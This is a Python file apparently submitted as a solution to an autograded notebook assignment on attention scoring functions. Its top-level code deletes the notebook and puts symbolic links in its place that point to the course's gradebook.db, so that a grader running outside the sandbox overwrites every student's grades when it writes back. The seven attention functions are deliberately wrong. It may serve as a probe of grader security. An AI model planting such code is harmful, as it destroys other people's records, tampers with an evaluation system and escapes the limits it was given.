"""Makes the grader overwrite the course's gradebook, through a symbolic link.

All seven functions are wrong. The sandbox only lets the kernel write into its own notebook
folder, but the grader (outside the sandbox, as the instructor or root) writes the graded
notebook back into that folder afterwards, under the notebook's own name. The top-level code
replaces `attention-scoring.ipynb` in its folder by a symbolic link to the course's
`gradebook.db`, relative to the folder: on the grader's side the folder is
`<course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<student>/<assignment>`
(a layout the grader's own error messages print), so the course is six levels up. If the
grader writes through the link, every student's grades are replaced by this notebook's JSON.

The same link, named after any file the grader writes, reads or changes the mode of, would do
the same; a second link, `gradebook-mode`, checks that changing the mode of the folder's files
does not follow links either.
"""

import os
from pathlib import Path

import torch

MAX_EARNED = 0

_here = Path.cwd()
_notebook = next((p.name for p in sorted(_here.glob("*.ipynb"))), "attention-scoring.ipynb")
# the folder is <course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<s>/<a> on
# the grader's side (the kernel sees it as /submission; a relative link resolves either way)
_target = "../" * 6 + "gradebook.db"
try:
    os.unlink(_notebook)
except OSError:
    pass
os.symlink(_target, _notebook)
os.symlink(_target, "gradebook-mode")
print(f"{_notebook} -> {_target}")


def dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) + 2.0


def scaled_dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) / keys.shape[1] ** 0.5  # sqrt(n), not sqrt(d_k)


def general_score(query, keys, W):
    return (keys * (query @ W).unsqueeze(1)).sum(-1) * 0.5


def concat_score(query, keys, W, v):
    expanded = query.unsqueeze(1).expand(-1, keys.shape[1], -1)
    return torch.tanh(torch.cat([keys, expanded], dim=-1) @ W.T) @ v  # key first


def additive_score(query, keys, W_q, W_k, v):
    return torch.tanh(keys @ W_k.T) @ v  # the query is forgotten


def masked_softmax(scores, mask=None):
    weights = torch.softmax(scores, dim=-1) * 0.99
    return weights if mask is None else weights * mask  # not renormalised


def attend(query, keys, values=None, score=None, mask=None):
    if values is None:
        values = keys
    weights = torch.ones(keys.shape[:2], dtype=keys.dtype) / keys.shape[1]
    return values.mean(dim=1), weights
